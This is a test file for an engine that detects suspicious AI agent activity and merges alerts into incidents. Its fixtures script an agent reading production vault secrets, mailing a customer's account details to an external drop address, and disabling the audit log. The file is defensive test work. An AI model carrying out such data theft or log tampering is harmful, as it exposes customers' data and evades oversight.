import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { story, type Told } from '../../detectors/cases/story.ts'
import { detectors } from '../../detectors/index.ts'
import { decodeEvent } from '../../schemas/event.ts'
import type { Alert, ChainSummary, CredentialSummary, Incident } from '../../src/core/index.ts'
import { createEngine } from '../../src/engine/engine.ts'
import { alertNamedBy, incidentsOf, MAX_LINKED } from '../../src/engine/incidents.ts'

interface Found {
  readonly alerts: readonly Alert[]
  readonly chains: readonly ChainSummary[]
  readonly credentials: readonly CredentialSummary[]
}

/** All but the one that speaks of two things being done in one chain: spread over chains, that is not so. */
const SEEING = detectors.filter(({ id }) => id !== 'duty-conflict')

/** What the engine finds in events. */
function found(events: readonly Told[]): Found {
  const engine = createEngine({ detectors: SEEING })
  for (const raw of events) {
    const decoded = decodeEvent(raw, { content: { key: new Uint8Array(32), retain: false } })
    if (!decoded.ok) throw new Error(decoded.message)
    engine.accept(decoded.event, { origin: null, arrivedAt: decoded.event.at })
  }
  engine.finish()
  const { alerts, chains, credentials } = engine.drain()
  return { alerts, chains, credentials }
}

type Teller = ReturnType<typeof story>

/** Three things that are each seen in the chain they are done in, and three that are nothing. */
const DEEDS: readonly ((w: Teller, id: string, second: number) => readonly Told[])[] = [
  (w, id, second) =>
    [1, 2, 3, 4].map((n) =>
      w.calls(`${id}-${n}`, second + n, 'vault.read', {
        operation: 'read',
        resource: { id: `vault/prod/key-${n}`, type: 'secret', zone: 'prod' },
      }),
    ),
  (w, id, second) => [
    w.calls(`${id}-1`, second, 'crm.read', {
      operation: 'read',
      resource: { id: 'crm/ada', sensitivity: 'confidential' },
      result: 'Customer Ada Byron, account 4711-0815, limit 25300, born 1985-12-10',
    }),
    w.calls(`${id}-2`, second + 2, 'mail.send', {
      operation: 'send',
      destination: { id: 'drop@collector.example', type: 'email', external: true },
      arguments: { to: 'drop@collector.example', body: 'Ada Byron, account 4711-0815, limit 25300, 1985-12-10' },
    }),
  ],
  (w, id, second) => [
    w.calls(id, second, 'audit_log.disable', { operation: 'update', resource: { id: 'audit/main' } }),
  ],
]
const NOTHING = (w: Teller, id: string, second: number): readonly Told[] => [
  w.calls(id, second, 'wiki.read', { operation: 'read', resource: { id: 'wiki/home', sensitivity: 'public' } }),
]

/** A tree of workflows: each but the first has one before it as its parent, by its start or by a hand-off. */
const trees = fc
  .array(fc.record({ parent: fc.nat(), isHandoff: fc.boolean() }), { minLength: 1, maxLength: 5 })
  .map((nodes) => nodes.map(({ parent, isHandoff }, i) => ({ parent: i === 0 ? null : parent % i, isHandoff })))

/** The events of a tree whose nodes do something; `nameOf`: the workflow of each node. */
function told(
  tree: readonly { readonly parent: number | null; readonly isHandoff: boolean }[],
  deedAt: (node: number) => (typeof DEEDS)[number],
  nameOf: (node: number) => string,
): readonly Told[] {
  return tree.flatMap(({ parent, isHandoff }, i) => {
    const w = story(nameOf(i), 'task-bot')
    const over = parent === null ? null : story(nameOf(parent), 'task-bot')
    const isChild = parent !== null && nameOf(parent) !== nameOf(i)
    const start =
      isChild && isHandoff
        ? []
        : isChild || parent === null
          ? [w.start(`s${i}`, i * 60, isChild ? { parent_workflow_id: nameOf(parent ?? 0) } : {})]
          : []
    const handoff =
      isChild && isHandoff
        ? [
            {
              ...over?.calls(`h${i}`, i * 60, 'none'),
              kind: 'handoff',
              tool_call: undefined,
              handoff: { to_workflow_id: nameOf(i), to_agent: { id: 'task-bot' }, mode: 'delegate' },
            },
          ]
        : []
    return [...start, ...handoff, ...deedAt(i)(w, `d${i}`, i * 60 + 5)]
  })
}

const ofDetectors = (incident: Incident | undefined): readonly string[] => [...(incident?.detectors ?? [])].sort()

describe('the same facts', () => {
  it('through one chain or spread over linked chains are one incident', () => {
    fc.assert(
      fc.property(trees, fc.array(fc.nat(3), { minLength: 5, maxLength: 5 }), (tree, deeds) => {
        const used = tree.map((_, i) => deeds[i] ?? 3)
        fc.pre(
          used.some((deed) => deed < 3) &&
            new Set(used.filter((deed) => deed < 3)).size === used.filter((deed) => deed < 3).length,
        )
        const deedAt = (node: number) => DEEDS[used[node] ?? 3] ?? NOTHING
        const spread = incidentsOf(found(told(tree, deedAt, (i) => `wf-${i}`)))
        const whole = incidentsOf(found(told(tree, deedAt, () => 'wf-0')))
        expect(spread).toHaveLength(1)
        expect(whole).toHaveLength(1)
        expect(ofDetectors(spread[0])).toEqual(ofDetectors(whole[0]))
        expect(spread[0]?.severity).toBe(whole[0]?.severity)
        expect(Math.abs((spread[0]?.score ?? 0) - (whole[0]?.score ?? 0))).toBeLessThanOrEqual(1)
      }),
      { numRuns: 40 },
    )
  })

  it('in chains that nothing links are an incident each', () => {
    const events = [0, 1].flatMap((n) => {
      const w = story(`wf-${n}`, `bot-${n}`)
      return [w.start(`s${n}`, 0), ...(DEEDS[n]?.(w, `d${n}`, 5) ?? [])]
    })
    expect(incidentsOf(found(events)).map(({ alertIds }) => alertIds.length)).toEqual([1, 1])
  })
})

describe('harmless linked chains', () => {
  it('are no incident', () => {
    const tree = [0, 1, 2].map((i) => ({ parent: i === 0 ? null : i - 1, isHandoff: i === 2 }))
    expect(
      incidentsOf(
        found(
          told(
            tree,
            () => NOTHING,
            (i) => `wf-${i}`,
          ),
        ),
      ),
    ).toEqual([])
  })

  it('tie nothing together where one has more links than a task has', () => {
    const hub = (children: number): Found => {
      const events = Array.from({ length: children }, (_, i) => {
        const w = story(`wf-${i}`, `bot-${i}`)
        const deed = i < 2 ? (DEEDS[i] ?? NOTHING) : NOTHING
        return [w.start(`s${i}`, i, { parent_workflow_id: 'scheduler' }), ...deed(w, `d${i}`, i + 60)]
      })
      return found([story('scheduler', 'cron').start('s', -1), ...events.flat()])
    }
    expect(incidentsOf(hub(MAX_LINKED))).toHaveLength(1)
    expect(incidentsOf(hub(MAX_LINKED + 1))).toHaveLength(2)
  })
})

const alert = (id: string, at: number, more: Partial<Alert> = {}): Alert => ({
  ...(SAMPLE as Alert),
  id,
  firstAt: at,
  lastAt: at,
  workflowId: `wf-${id}`,
  workflowIds: [`wf-${id}`],
  credentialIds: [],
  detectors: [more.detector ?? 'rare-path'],
  detector: 'rare-path',
  severity: 'low',
  confidence: 0.5,
  score: 10,
  ...more,
})

const [SAMPLE] = found([story('wf', 'a').start('s', 0), ...(DEEDS[0]?.(story('wf', 'a'), 'd', 5) ?? [])]).alerts
const DAY = 86_400_000
const held = (id: string, parentId: string | null, holders = 1): CredentialSummary =>
  ({ tenant: 'default', id, parentId, workflowIds: Array.from({ length: holders }, (_, i) => `wf-${i}`) }) as never

describe('credentials of one lineage', () => {
  const two = (gap: number) => [
    alert('a', 0, { credentialIds: ['root'] }),
    alert('b', gap, { credentialIds: ['leaf'] }),
  ]
  const lineage = [held('root', null), held('mid', 'root'), held('leaf', 'mid')]

  it('tie alerts within a day', () => {
    const [incident, ...others] = incidentsOf({ alerts: two(DAY), chains: [], credentials: lineage })
    expect(others).toEqual([])
    expect(incident?.ties).toEqual([{ from: 'a', to: 'b', by: 'credential', grade: 'derived' }])
  })

  it('tie none further apart, nor by a credential that everybody holds', () => {
    expect(incidentsOf({ alerts: two(DAY + 1), chains: [], credentials: lineage })).toHaveLength(2)
    const common = [held('root', null, MAX_LINKED + 1), held('leaf', null, MAX_LINKED + 1)]
    const both = ['a', 'b'].map((id, i) => alert(id, i, { credentialIds: ['root'] }))
    expect(incidentsOf({ alerts: both, chains: [], credentials: common })).toHaveLength(2)
  })
})

describe('the score of an incident', () => {
  const ofOne = (...alerts: readonly Alert[]): number =>
    incidentsOf({ alerts: alerts.map((one) => ({ ...one, workflowId: 'wf' })), chains: [], credentials: [] })[0]
      ?.score ?? -1

  it('is raised by low signals of other detectors', () => {
    const loud = alert('a', 0, { detector: 'secret-harvest', score: 60, severity: 'high', confidence: 0.8 })
    expect(ofOne(loud, alert('b', 1, { detector: 'rare-path' }))).toBeGreaterThan(ofOne(loud))
  })

  it('is not raised by the same detector in a hundred chains', () => {
    const same = Array.from({ length: 100 }, (_, i) => alert(`a${i}`, i))
    expect(ofOne(...same)).toBe(10)
  })
})

describe('the name of an incident', () => {
  it('stays while it grows, in whatever order its alerts are given', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 1_000 }), { maxLength: 8 }), fc.nat(), (times, turn) => {
        const first = alert('first', 0, { workflowId: 'wf' })
        const all = [first, ...times.map((at, i) => alert(`later-${i}`, at, { workflowId: 'wf' }))]
        const turned = [...all.slice(turn % all.length), ...all.slice(0, turn % all.length)]
        const incidents = incidentsOf({ alerts: turned, chains: [], credentials: [] })
        expect(incidents.map(({ id }) => id)).toEqual(
          incidentsOf({ alerts: [first], chains: [], credentials: [] }).map(({ id }) => id),
        )
        expect(alertNamedBy(incidents[0]?.id ?? '')).toBe('first')
      }),
    )
  })

  it('is that of the older where two become one', () => {
    const alerts = [alert('a', 5), alert('b', 3)]
    const chains = [
      { tenant: 'default', workflowId: 'wf-a', links: [{ workflowId: 'wf-b', relation: 'child', grade: 'reported' }] },
    ] as const
    const [merged, ...others] = incidentsOf({ alerts, chains, credentials: [] })
    expect(others).toEqual([])
    expect(alertNamedBy(merged?.id ?? '')).toBe('b')
    expect(merged?.alertIds).toEqual(['b', 'a'])
  })

  it('leaves out what was retracted', () => {
    const alerts = [alert('a', 0, { status: 'retracted' })]
    expect(incidentsOf({ alerts, chains: [], credentials: [] })).toEqual([])
  })
})
